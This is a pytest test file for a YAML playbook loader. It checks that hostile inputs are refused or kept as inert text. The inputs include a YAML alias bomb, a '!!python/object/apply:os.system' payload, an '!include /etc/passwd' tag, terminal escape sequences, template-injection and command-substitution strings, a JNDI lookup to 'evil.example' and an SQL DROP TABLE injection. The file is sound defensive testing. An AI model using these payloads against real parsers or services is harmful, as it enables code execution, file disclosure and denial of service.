"""Hostile playbooks: each is refused with a place, quickly, and without anything having happened."""

import time
import tracemalloc
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from service.playbook.load import Loaded
from service.playbook.problem import PlaybookError, Problem

Parse = Callable[[bytes], Loaded]

GOOD = b"""\
playbook: hostile
version: 1
summary: Fine.
steps:
  - id: one
    action: wait
    with: {for: 15m}
    minimum: observed
examples:
  - {name: e, plan: [one]}
"""

BOMB = b"a: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
    b"%c: &%c [%s]\n" % (new, new, b", ".join([b"*%c" % old] * 9))
    for old, new in zip(b"abcdefgh", b"bcdefghi", strict=True)
)

NAMED: dict[str, tuple[bytes, str]] = {
    "alias bomb": (BOMB, "PB0003"),
    "an alias to itself": (b"steps: &s [*s]\n", "PB0003"),
    "an alias to nothing": (b"steps: *nothing\n", "PB0003"),
    "an anchor alone": (GOOD.replace(b"id: one", b"id: &x one"), "PB0003"),
    "a python object": (b"steps: !!python/object/apply:os.system ['touch /tmp/owned']\n", "PB0003"),
    "a python name": (b"summary: !!python/name:os.system\n", "PB0003"),
    "a local tag": (b"summary: !include /etc/passwd\n", "PB0003"),
    "a binary tag": (b"summary: !!binary aGVsbG8=\n", "PB0003"),
    "a merge key": (GOOD.replace(b"    action: wait", b"    <<: {action: wait}"), "PB0003"),
    "another version of YAML": (b"%YAML 1.1\n---\n" + GOOD, "PB0003"),
    "a version with 5,000 digits": (b"%YAML 1." + b"9" * 5000 + b"\n---\n" + GOOD, "PB0003"),
    "a tag directive": (b"%TAG ! tag:evil,2026:\n---\n" + GOOD, "PB0003"),
    "two documents": (GOOD + b"---\n" + GOOD, "PB0003"),
    "a mapping as a key": (b"? {a: b}\n: c\n", "PB0003"),
    "a list as a key": (b"[a, b]: c\n", "PB0003"),
    "a key twice": (GOOD.replace(b"version: 1", b"version: 1\nversion: 2"), "PB0004"),
    "a step's key twice": (GOOD.replace(b"    minimum: observed", b"    id: two"), "PB0004"),
    "21 levels": (b"[" * 21 + b"]" * 21, "PB0005"),
    "100,000 levels": (b"[" * 100_000, "PB0005"),
    "100,000 levels of mappings": (b"{a: " * 100_000, "PB0005"),
    "100,000 nested dashes": (b"- " * 100_000, "PB0005"),
    "two megabytes": (GOOD + b"# " + b"x" * 2_000_000, "PB0005"),
    "a hundred thousand values": (b"steps:\n" + b"  - b: c\n" * 100_000, "PB0005"),
    "NUL": (GOOD.replace(b"Fine", b"Fi\x00ne"), "PB0001"),
    "NUL behind an escape": (GOOD.replace(b"Fine.", b'"Fi\\x00ne"'), "PB0001"),
    "a lone surrogate behind an escape": (GOOD.replace(b"Fine.", b'"\\ud800"'), "PB0001"),
    "beyond Unicode": (GOOD.replace(b"Fine.", b'"\\U00110000"'), "PB0002"),
    "a terminal escape": (GOOD.replace(b"Fine", b"\x1b[2J\x1b]0;owned\x07"), "PB0001"),
    "a terminal escape behind an escape": (GOOD.replace(b"Fine.", b'"\\e[2J"'), "PB0001"),
    "text that turns its direction": (GOOD.replace(b"Fine", "\u202eenif".encode()), "PB0001"),
    "UTF-16": (GOOD.decode().encode("utf-16"), "PB0001"),
    "Latin-1": (GOOD.replace(b"Fine", b"Fin\xe9"), "PB0001"),
    "nothing": (b"", "PB0203"),
    "a comment": (b"# nothing\n", "PB0203"),
    "a list": (b"- a\n", "PB0203"),
    "a word": (b"playbook\n", "PB0203"),
    "an open bracket": (b"steps: [", "PB0002"),
    "a tab for a space": (b"steps:\n\t- id: a\n", "PB0002"),
    "a version as text": (GOOD.replace(b"version: 1", b"version: '1'"), "PB0203"),
    "a version beyond counting": (GOOD.replace(b"version: 1", b"version: " + b"9" * 5000), "PB0203"),
    "a version that is not a number": (GOOD.replace(b"version: 1", b"version: .nan"), "PB0203"),
    "yes for true": (GOOD.replace(b"minimum: observed", b"critical: yes"), "PB0203"),
    "a duration beyond time": (GOOD.replace(b"minimum: observed", b"deadline: " + b"9" * 400 + b"d"), "PB0203"),
    "a duration with a line end": (GOOD.replace(b"minimum: observed", b'deadline: "5m\\n"'), "PB0203"),
    "a thousand steps": (
        b"playbook: hostile\nversion: 1\nsummary: x\nsteps:\n"
        + b"".join(b"  - {id: s%d, action: wait, needs: [s%d]}\n" % (n, n + 1) for n in range(1000)),
        "PB0203",
    ),
    "a thousand needs": (
        GOOD.replace(b"    minimum", b"    needs: [" + b"x, " * 1000 + b"x]\n    minimum"), "PB0302",
    ),
    "a reference to what is inside": (GOOD.replace(b"15m", b"'${leaver.__class__.__mro__}'"), "PB0104"),
    "an action that is a path": (GOOD.replace(b"action: wait", b"action: ../../os.system"), "PB0203"),
    "an action of the interpreter": (GOOD.replace(b"action: wait", b"action: os.__import__"), "PB0203"),
}  # fmt: skip


def _refused(parsed: Parse, data: bytes) -> tuple[Problem, ...]:
    with pytest.raises(PlaybookError) as caught:
        parsed(data)
    return caught.value.problems


def test_what_the_hostile_files_are_made_from_is_itself_fine(parsed: Parse):
    assert parsed(GOOD).playbook.steps[0].id == "one"


@pytest.mark.parametrize("name", NAMED)
def test_a_hostile_file_is_refused_with_its_code_and_place(parsed: Parse, name: str):
    data, code = NAMED[name]

    problems = _refused(parsed, data)

    assert code in [problem.code for problem in problems], [str(problem) for problem in problems]
    assert all(problem.line >= 1 and problem.column >= 1 for problem in problems)


@pytest.mark.parametrize("name", NAMED)
def test_no_error_carries_what_moves_a_cursor_or_runs_on(parsed: Parse, name: str):
    text = str(PlaybookError(_refused(parsed, NAMED[name][0])))

    assert all(character == "\n" or character.isprintable() for character in text)
    assert len(text) < 40_000


@pytest.mark.parametrize(
    "name", ["alias bomb", "100,000 levels", "two megabytes", "a hundred thousand values"]
)
def test_refusing_costs_little_time_and_memory(parsed: Parse, name: str):
    tracemalloc.start()
    started = time.process_time()

    _refused(parsed, NAMED[name][0])

    spent, (_, peak) = time.process_time() - started, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert (spent < 20, peak < 80_000_000) == (True, True), (spent, peak)


@pytest.mark.parametrize(
    "text",
    ["{{ 7*7 }}", "{% import os %}", "${7*7}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "$(id)", "`id`",
     "${jndi:ldap://evil.example/a}", "%s %(x)s {0.__class__}", "'; DROP TABLE runs; --"],
)  # fmt: skip
def test_a_template_is_text_like_any_other(parsed: Parse, text: str):
    quoted = "'" + text.replace("'", "''") + "'"

    loaded = parsed(GOOD.replace(b"Fine.", quoted.encode()))

    assert loaded.playbook.summary == text


def test_what_looks_like_something_else_in_older_yaml_stays_text(parsed: Parse):
    loaded = parsed(GOOD.replace(b"plan:", b"department: 12:30:00, country: NO, plan:"))

    example = loaded.playbook.examples[0]
    assert (example.department, example.country) == ("12:30:00", "NO")


PIECES = st.sampled_from(
    [b"playbook: hostile\n", b"version: 1\n", b"steps:\n", b"  - id: a\n", b"    action: wait\n", b"    needs: [a]\n",
     b"    with: {for: 1m}\n", b"    when: {kind: [voluntary]}\n", b"&a ", b"*a", b"!!str ", b"<<: ", b"? ", b": ",
     b"- ", b"[", b"]", b"{", b"}", b"|\n", b">-\n", b"'", b'"', b"\\x00", b"\\U00110000", b"#", b"---\n", b"...\n",
     b"%YAML 1.2\n", b"\t", b"\r", b"\n", b"  ", b"\x00", b"\xff", b"\xef\xbb\xbf", "\u2028".encode(), b"NO", b"~",
     b"9999999999999999999999", b"${leaver.email}", b"${x}", b"examples:\n", b"    plan: [a]\n", b"0x1F", b"1e999"]
)  # fmt: skip


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.one_of(st.binary(max_size=400), st.lists(PIECES, max_size=40).map(b"".join)))
def test_whatever_the_bytes_are_only_a_playbook_error_comes_out(parsed: Parse, data: bytes):
    try:
        parsed(data)
    except PlaybookError as error:
        assert error.problems  # noqa: PT017  most inputs are refused, a few are playbooks: both are right


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.integers(0, len(GOOD)), st.integers(0, 12), st.one_of(st.binary(max_size=6), PIECES))
def test_a_good_file_with_something_else_in_its_middle_is_read_or_refused(
    parsed: Parse, at: int, gone: int, put: bytes
):
    try:
        parsed(GOOD[:at] + put + GOOD[at + gone :])
    except PlaybookError as error:
        assert error.problems  # noqa: PT017  both are right
